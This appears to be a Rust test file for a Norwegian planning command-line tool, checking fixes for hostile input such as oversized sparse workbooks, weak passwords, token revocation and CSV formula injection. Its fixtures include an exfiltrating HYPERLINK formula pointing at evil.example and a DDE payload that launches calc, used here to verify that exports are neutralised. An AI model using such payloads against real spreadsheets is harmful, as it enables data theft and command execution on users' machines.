//! Hostile input through the command line (issue 21): files made to hurt a reader are refused
//! with the file named and exit 1, never an abort; exports are safe to open in a spreadsheet.

mod common;

use std::io::Write as _;
use std::path::Path;
use std::process::{Command, Output, Stdio};

fn run(dir: &Path, db: &Path, args: &[&str]) -> Output {
    common::bin()
        .current_dir(dir)
        .arg("--db")
        .arg(db)
        .args(args)
        .output()
        .unwrap()
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

/// Finding 1: a workbook whose only cells are A1 and XFD1048576 made the reader allocate
/// 512 GiB and abort (exit 134) without naming the file.
#[test]
fn a_sparse_workbook_exits_1_naming_the_file() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("s.db");
    let mut wb = rust_xlsxwriter::Workbook::new();
    let sheet = wb.add_worksheet();
    sheet.write_string(0, 0, "id").unwrap();
    sheet.write_string(1_048_575, 16_383, "x").unwrap();
    wb.save(dir.path().join("sparse.xlsx")).unwrap();
    let out = run(dir.path(), &db, &["actions", "import", "sparse.xlsx"]);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(
        err.contains("sparse.xlsx") && err.contains("celle XFD1048576"),
        "{err}"
    );
}

/// A CSV cell a spreadsheet would run as a formula: begins with `=`, `+`, `@`, tab or CR, or with
/// `-` and is not a plain negative number.
fn formula_like(cell: &str) -> bool {
    let plain_negative = cell.strip_prefix('-').is_some_and(|r| {
        !r.is_empty()
            && r.replace([',', '.'], "")
                .bytes()
                .all(|b| b.is_ascii_digit())
    });
    cell.starts_with(['=', '+', '@', '\t', '\r']) || (cell.starts_with('-') && !plain_negative)
}

/// Every cell of a CSV text; panics on a formula-like one.
fn check_cells(what: &str, csv_text: &[u8], delimiter: u8) -> usize {
    let mut n = 0;
    let mut r = csv::ReaderBuilder::new()
        .delimiter(delimiter)
        .has_headers(false)
        .flexible(true)
        .from_reader(csv_text);
    for rec in r.records() {
        for cell in rec.unwrap().iter() {
            n += 1;
            assert!(!formula_like(cell), "{what}: cell {cell:?}");
        }
    }
    n
}

/// Finding 5: a formula in an action title came out of `actions export` (and the plan's CSV
/// export) unchanged. Now every cell is safe, and `actions import` of the export changes nothing.
#[test]
fn csv_exports_are_safe_and_round_trip() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("s.db");
    let evil = "=HYPERLINK(\"https://evil.example/?x=\"&A2,\"Klikk\")";
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(["id", "title", "owner", "comment"]).unwrap();
    w.write_record(["T1", evil, "+47 22 00 00 00", "@SUM(A1)"])
        .unwrap();
    w.write_record(["T2", "-2+3+cmd|' /C calc'!A0", "-", "=1+1"])
        .unwrap();
    std::fs::write(dir.path().join("ond.csv"), w.into_inner().unwrap()).unwrap();
    let out = run(dir.path(), &db, &["actions", "import", "ond.csv"]);
    assert!(out.status.success(), "{}", text(&out.stderr));

    let out = run(dir.path(), &db, &["actions", "export", "--format", "csv"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let export = out.stdout;
    assert!(check_cells("actions export", &export, b',') > 100);
    assert!(text(&export).contains(&format!("\"'{}\"", evil.replace('"', "\"\""))));

    let out = run(dir.path(), &db, &["plan", "export", "--format", "csv"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(check_cells("plan export", &out.stdout, b',') > 100);
    assert!(text(&out.stdout).contains("'=HYPERLINK"));

    // Export → import: nothing changes.
    std::fs::write(dir.path().join("eksport.csv"), &export).unwrap();
    let out = run(dir.path(), &db, &["actions", "import", "eksport.csv"]);
    let err = text(&out.stderr);
    assert!(out.status.success(), "{err}");
    assert!(err.contains(": Importert: 0 nye, 0 endret,"), "{err}");
    let out = run(dir.path(), &db, &["actions", "export", "--format", "csv"]);
    assert_eq!(
        text(&out.stdout),
        text(&export),
        "a second export is the same"
    );
}

fn run_in(dir: &Path, db: &Path, args: &[&str], stdin: &str) -> Output {
    common::with_input(
        common::bin()
            .current_dir(dir)
            .arg("--db")
            .arg(db)
            .args(args),
        stdin,
    )
}

/// Finding 6: tokens are listed (`user tokens`), revoked one by one (`user revoke-token`), and a
/// password change revokes the rest; enabling an account does not revive them.
#[test]
fn tokens_are_listed_revoked_and_die_with_a_password_change() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("s.db");
    let d = dir.path();
    let out = run_in(
        d,
        &db,
        &["user", "add", "kari", "--role", "editor"],
        "et-langt-passord-42\n",
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    for (label, extra) in [("ci", None), ("rapport", Some("30"))] {
        let mut args = vec!["user", "token", "kari", "--label", label];
        if let Some(days) = extra {
            args.extend(["--expires-days", days]);
        }
        let out = run_in(d, &db, &args, "");
        assert!(out.status.success(), "{}", text(&out.stderr));
    }
    let out = run_in(d, &db, &["user", "tokens", "kari"], "");
    let list = text(&out.stdout);
    let lines: Vec<&str> = list.lines().collect();
    assert_eq!(lines.len(), 2, "{list}");
    assert!(
        lines[0].starts_with("1\tci\tcreated ") && lines[0].ends_with("no expiry"),
        "{list}"
    );
    assert!(
        lines[1].starts_with("2\trapport\t") && lines[1].contains("\texpires "),
        "{list}"
    );
    assert!(lines[0].contains("last used never"), "{list}");

    let out = run_in(d, &db, &["user", "revoke-token", "kari", "1"], "");
    assert!(out.status.success(), "{}", text(&out.stderr));
    let out = run_in(d, &db, &["user", "revoke-token", "kari", "1"], "");
    assert_eq!(out.status.code(), Some(1), "revoking twice fails");
    let out = run_in(d, &db, &["user", "tokens", "kari"], "");
    assert_eq!(text(&out.stdout).lines().count(), 1);

    let out = run_in(
        d,
        &db,
        &["user", "password", "kari"],
        "et-annet-passord-43\n",
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(text(&out.stderr).contains("tokens revoked"));
    let out = run_in(d, &db, &["user", "tokens", "kari"], "");
    assert_eq!(text(&out.stdout), "", "no tokens after a password change");
}

/// Finding 7: `echo 1234567890 | naeringsplan user add x --role viewer` was accepted.
#[test]
fn a_common_password_is_refused_on_the_command_line() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("s.db");
    for pw in ["1234567890", "password123", "xavier-xavier"] {
        let out = run_in(
            dir.path(),
            &db,
            &["user", "add", "xavier", "--role", "viewer"],
            &format!("{pw}\n"),
        );
        assert_eq!(out.status.code(), Some(1), "{pw}");
        assert!(
            text(&out.stderr).contains("too easy to guess"),
            "{}",
            text(&out.stderr)
        );
    }
    let out = run_in(dir.path(), &db, &["user", "list"], "");
    assert_eq!(text(&out.stdout), "");
}

/// `naeringsplan --db DB ARGS…` in a scratch store without the demo register.
fn np(db: &Path, args: &[&str]) -> Output {
    common::output(db, args)
}

/// `check` on a binary file named no position; now it gives the byte offset (and line and
/// column) of the first byte that is not UTF-8 text, the file named once.
#[test]
fn check_on_a_binary_file_names_the_byte_offset() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("plan.toml");
    let mut bytes = b"[meta]\nname = \"x\"\n".to_vec();
    let at = bytes.len() + 3;
    bytes.extend_from_slice(b"abc\xff\xfe\x00binary");
    std::fs::write(&file, &bytes).unwrap();
    let out = np(&dir.path().join("s.db"), &["check", file.to_str().unwrap()]);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains(&format!("ved byte {at}")), "{err}");
    assert!(
        err.contains("0xFF") && err.contains("linje 3, kolonne 4"),
        "{err}"
    );
    assert_eq!(err.matches(file.to_str().unwrap()).count(), 1, "{err}");
    // A NUL byte in otherwise valid UTF-8 is a binary file too.
    std::fs::write(&file, b"[meta]\x00").unwrap();
    let out = np(&dir.path().join("s.db"), &["check", file.to_str().unwrap()]);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(
        err.contains("ved byte 6") && err.contains("NUL-byte"),
        "{err}"
    );
}

/// A truncated gzipped JSON-stat file was "not a Brønnøysund register file", the file named
/// twice. Now it is a truncated gzip file, named once, nothing imported; the whole file imports.
#[test]
fn a_truncated_gzipped_json_stat_file_is_reported_as_truncated_gzip() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("s.db");
    let json = std::fs::read(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../store/tests/fixtures/good_small.json"),
    )
    .unwrap();
    let gz = {
        let mut child = Command::new("gzip")
            .arg("-c")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .expect("gzip must be installed for this test");
        child.stdin.take().unwrap().write_all(&json).unwrap();
        child.wait_with_output().unwrap().stdout
    };
    assert!(gz.starts_with(&[0x1f, 0x8b]));
    let cut = dir.path().join("tabell.json.gz");
    std::fs::write(&cut, &gz[..gz.len() * 2 / 3]).unwrap();
    let out = np(&db, &["import", cut.to_str().unwrap()]);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("avkortet gzip-fil"), "{err}");
    assert!(!err.contains("Brønnøysund"), "{err}");
    assert_eq!(err.matches(cut.to_str().unwrap()).count(), 1, "{err}");
    // The whole gzipped dataset imports as JSON-stat.
    let whole = dir.path().join("hel.json.gz");
    std::fs::write(&whole, &gz).unwrap();
    let out = np(&db, &["import", whole.to_str().unwrap()]);
    assert!(out.status.success(), "{}", text(&out.stderr));
}
